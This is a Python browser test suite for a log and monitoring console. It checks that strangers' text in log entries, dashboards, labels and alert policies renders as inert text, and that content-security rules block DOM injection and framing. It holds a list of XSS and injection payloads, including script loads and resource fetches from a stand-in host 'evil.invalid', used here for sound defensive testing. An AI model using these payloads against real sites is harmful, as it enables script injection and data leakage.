"""Whatever strangers write into entries, labels, dashboards and policies stays text."""

import json

import httpx

from support.browser import Tab
from support.console import (
    add_dashboard,
    add_policy,
    chart,
    foreign,
    next_poll,
    open_page,
    write_counter,
    write_entries,
)
from support.emulator import RunningEmulator
from support.provenance import our_choice

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script src=//evil.invalid/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.invalid/pixel.png'>",
    '"><svg onload=alert(1)>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script href=//evil.invalid/x.js />",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=http://evil.invalid/x>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<style>@import 'http://evil.invalid/x.css'</style>",
    "<base href=http://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<form action=http://evil.invalid/><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "![x](http://evil.invalid/pixel.png)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "${alert(1)} {{constructor.constructor('alert(1)')()}}",
    "'-alert(1)-'",
    "\u001b]8;;http://evil.invalid\u0007x\u001b]8;;\u0007\u001b[31mred\u001b[0m",
    "\u202e\u2066<img src=x onerror=alert(1)>\u2069",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "__proto__",
    "constructor",
    "url(http://evil.invalid/x)",
    "expression(alert(1))",
)


def hostile_entry(payload: str) -> dict[str, object]:
    return {
        "severity": "ERROR",
        "jsonPayload": {"message": payload, payload: payload, "stack_trace": payload, "nested": {"list": [payload]}},
        "labels": {"label": payload},
        "trace": payload,
        "spanId": payload,
        "httpRequest": {
            "requestMethod": payload,
            "requestUrl": payload,
            "status": 500,
            "latency": "1s",
            "userAgent": payload,
            "referer": payload,
        },
    }


@our_choice("a viewer of logs is read by people who did not write them")
def test_hostile_content_shows_as_text_and_does_nothing(tab: Tab, emulator: RunningEmulator):
    everything = " ".join(PAYLOADS)
    write_entries(emulator, *(hostile_entry(payload) for payload in PAYLOADS))
    write_entries(emulator, *({"severity": "INFO", "textPayload": payload} for payload in PAYLOADS))
    for payload in PAYLOADS[:8]:
        write_counter(emulator, {"outcome": payload}, [1.0, 2.0, 3.0])
    rate = "sum by (outcome) (rate(http_request_total[2m]))"
    legend = "${labels.outcome} " + PAYLOADS[2]
    table = {"timeSeriesQuery": {"prometheusQuery": rate}, "tableTemplate": PAYLOADS[4] + "{{outcome}}"}
    pie = {"timeSeriesQuery": {"prometheusQuery": rate}}
    variable = {"templateVariable": PAYLOADS[2], "labelKey": PAYLOADS[2], "filterType": "METRIC_LABEL"}
    add_dashboard(
        emulator,
        everything,
        chart(everything, rate, unit=PAYLOADS[2], legendTemplate=legend),
        {"title": PAYLOADS[0], "text": {"content": "\n".join(PAYLOADS), "format": "MARKDOWN"}},
        {"title": PAYLOADS[0], "text": {"content": everything, "format": "RAW", "style": {"textColor": PAYLOADS[35]}}},
        {"title": PAYLOADS[1], "timeSeriesTable": {"dataSets": [table]}},
        {"title": PAYLOADS[2], "pieChart": {"chartType": "PIE", "dataSets": [pie]}},
        {"title": PAYLOADS[3], "sectionHeader": {"subtitle": everything}},
        {"title": PAYLOADS[3], "logsPanel": {"filter": ""}},
        {"title": PAYLOADS[4], "incidentList": {}},
        chart(PAYLOADS[5], PAYLOADS[5]),
        dashboardFilters=[{**variable, "stringValue": everything}],
    )
    links = [{"displayName": PAYLOADS[2], "url": "javascript:alert(1)"}]
    add_policy(
        emulator, PAYLOADS[0] + PAYLOADS[2], "vector(7) > 5", documentation={"content": everything, "links": links}
    )
    open_page(tab, emulator)
    tab.until("document.querySelector('#incidents [data-state=OPEN]')", "the open incident", seconds=40)
    tab.run("document.querySelectorAll('.entry > .line').forEach((line) => line.click())")
    tab.run("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    next_poll(tab)

    shown = tab.run("document.body.textContent")
    for payload in PAYLOADS[:20]:
        assert payload in shown, payload
    planted = (
        "body script, iframe, object, embed, form[action], base, style, [onerror], [onload], [autofocus], main img"
    )
    assert tab.run(f"document.querySelectorAll({json.dumps(planted)}).length") == 0
    addresses = tab.run("[...document.querySelectorAll('a')].map((link) => link.protocol)")
    assert set(addresses) <= {"http:", "https:"}
    assert (tab.dialogs, foreign(tab, emulator)) == ([], [])
    assert [failure for failure in tab.failures if "query_range" not in failure] == []


@our_choice("the second line of defence holds without the first")
def test_the_browser_itself_refuses_what_the_page_never_does(tab: Tab, emulator: RunningEmulator):
    open_page(tab, emulator)
    attempts = (
        "document.body.innerHTML = '<b>x</b>'",
        "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "document.write('<b>x</b>')",
        "document.createElement('script').text = 'window.planted = 1'",
        "document.createElement('img').setAttribute('onerror', 'window.planted = 1')",
    )
    for attempt in attempts:
        told = tab.run(f"(() => {{ try {{ {attempt}; return 'done'; }} catch (error) {{ return error.name; }} }})()")
        assert told == "TypeError", attempt
    picture = "const picture = new Image(); picture.onerror = done; picture.src = 'http://127.0.0.1:9/pixel.png';"
    tab.run(f"new Promise((done) => {{ {picture} }}).then(() => 1)")
    assert "violates" in tab.failures[-1]


def test_a_page_of_another_site_cannot_frame_it(emulator: RunningEmulator):
    assert "frame-ancestors 'none'" in httpx.get(emulator.http, timeout=10).headers["content-security-policy"]
